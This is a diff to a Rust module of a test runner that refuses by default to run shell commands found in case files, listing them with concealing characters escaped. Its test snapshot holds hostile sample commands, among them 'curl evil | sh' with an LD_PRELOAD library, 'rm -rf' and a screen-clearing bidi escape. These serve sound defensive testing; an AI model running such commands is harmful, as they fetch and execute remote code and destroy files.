@@ -1,28 +1,28 @@
-//! Whether the commands that stand in files of cases may be run.
+//! Whether the commands in files of cases may be run.
 //!
-//! Contracts come from others. Without permission nothing of them is run, and every command is shown.
+//! Contracts may come from others. Without permission none of their commands is run, and all are listed.
 
 use std::fmt::{self, Write as _};
 use std::sync::Arc;
 
-use super::super::{Case, CaseFile, Hook};
+use crate::cases::{Case, CaseFile, Hook};
 use crate::process::Command;
 
 /// Whether commands of files may be run.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
 pub enum Commands {
-    /// They may.
+    /// They may be run.
     Allowed,
-    /// They may not.
+    /// They may not be run.
     #[default]
     Refused,
 }
 
-/// That the commands of some cases may be run, or that they have none; only [`permit`] gives it.
+/// The permission to run the commands of some cases; only [`permit`] grants it.
 #[derive(Debug, Clone, Copy)]
 pub struct Permit(());
 
-/// The cases want to run commands, and may not.
+/// The cases have commands, which may not be run.
 #[derive(Debug, Clone, PartialEq, Eq)]
 #[non_exhaustive]
 pub struct CommandsRefused {
@@ -33,21 +33,21 @@ pub struct CommandsRefused {
 impl fmt::Display for CommandsRefused {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         const SHOWN: usize = 200;
-        f.write_str("the cases want to run commands, and nothing was run:")?;
+        f.write_str("the cases have commands, which are not allowed; nothing was run:")?;
         self.commands.iter().take(SHOWN).try_for_each(|command| write!(f, "\n  {command}"))?;
         if let Some(more @ 1..) = self.commands.len().checked_sub(SHOWN) {
             write!(f, "\n  … and {more} more")?;
         }
-        f.write_str("\nto run them, say `--allow-commands`, or in Rust `allow_commands`")
+        f.write_str("\nto run them, use `--allow-commands`, or in Rust `allow_commands`")
     }
 }
 
 impl std::error::Error for CommandsRefused {}
 
-/// Permits the commands of these cases, all of which are to be asked for at once and before the first is played.
+/// Grants the permission to run the commands of these cases: of all cases at once, before the first one runs.
 ///
 /// # Errors
-/// When there are commands, and they are not allowed.
+/// If there are commands and they are not allowed.
 pub fn permit<'a>(
     cases: impl IntoIterator<Item = (&'a Arc<CaseFile>, &'a Arc<Case>)>,
     commands: Commands,
@@ -58,23 +58,25 @@ pub fn permit<'a>(
     let mut found = Vec::new();
     for (file, case) in cases {
         let settings = &case.settings;
-        let all = [("_before", &settings.before), ("_after", &settings.after)];
-        for (key, hook) in
-            all.into_iter().flat_map(|(key, hooks)| hooks.iter().map(move |it| (key, it)))
-        {
+        // A command for `_given` is not listed: it is from the user, not from a file.
+        let before = settings.before.iter().map(|hook| ("_before", hook));
+        let after = settings.after.iter().map(|hook| ("_after", hook));
+        for (key, hook) in before.chain(after) {
             let (line, column) = (hook.span.line, hook.span.column);
-            let command = plain(&line_of(hook));
+            let command = escaped(&command_line(hook));
             found.push(format!("{}:{line}:{column}: {command} ({key} of {})", file.path, case.id));
         }
     }
     if found.is_empty() { Ok(Permit(())) } else { Err(CommandsRefused { commands: found }) }
 }
 
-/// The whole command, values of variables and all: here they are not secrets but what is to be judged.
-fn line_of(hook: &Hook) -> String {
+/// The whole command with the values of variables: they are not secret, and the user has to judge them.
+fn command_line(hook: &Hook) -> String {
     let word = |text: &str| Command::new(text).to_string();
     let mut line = String::new();
+    // In the syntax of a shell, which users can read, although no shell runs it.
     if let Some(cwd) = &hook.cwd {
+        // Writing to a String does not fail.
         let _ = write!(line, "cd {} && ", word(cwd));
     }
     for (name, value) in &hook.env {
@@ -83,10 +85,11 @@ fn line_of(hook: &Hook) -> String {
     line + &hook.run.iter().map(|text| word(text)).collect::<Vec<_>>().join(" ")
 }
 
-/// Without characters that hide what stands there: those that move the cursor, turn the text around, or cannot be seen.
-fn plain(text: &str) -> String {
+/// Escapes the characters that could hide a command: control characters, those that reverse text, and invisible ones.
+fn escaped(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     for char in text.chars() {
+        // Soft hyphens, zero-width and bidirectional characters, line separators, byte order marks, and tags.
         let hides = char.is_control()
             || matches!(char, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}');
         match hides {
@@ -116,16 +119,16 @@ _after: ./clean-up.sh
 "#;
 
     #[test]
-    fn every_command_of_every_case_is_shown_as_it_is() {
+    fn every_command_of_every_case_is_listed_in_full() {
         let cases = Cases::parse("a.yaml", TEXT, &ReadOptions::default()).expect("cases").0;
         let refused = permit(cases.iter(), Commands::Refused).expect_err("there are commands");
         insta::assert_snapshot!(refused, @r"
-        the cases want to run commands, and nothing was run:
+        the cases have commands, which are not allowed; nothing was run:
           a.yaml:4:5: cd 'sub dir' && LD_PRELOAD=/tmp/x.so sh -c 'curl evil | sh' (_before of a::one)
           a.yaml:5:5: rm -rf 'a b' (_before of a::one)
           a.yaml:6:9: echo '\u{202e}\u{1b}[2J' done (_after of a::one)
           a.yaml:11:9: ./clean-up.sh (_after of a::two)
-        to run them, say `--allow-commands`, or in Rust `allow_commands`
+        to run them, use `--allow-commands`, or in Rust `allow_commands`
         ");
         assert!(permit(cases.iter(), Commands::Allowed).is_ok());
     }
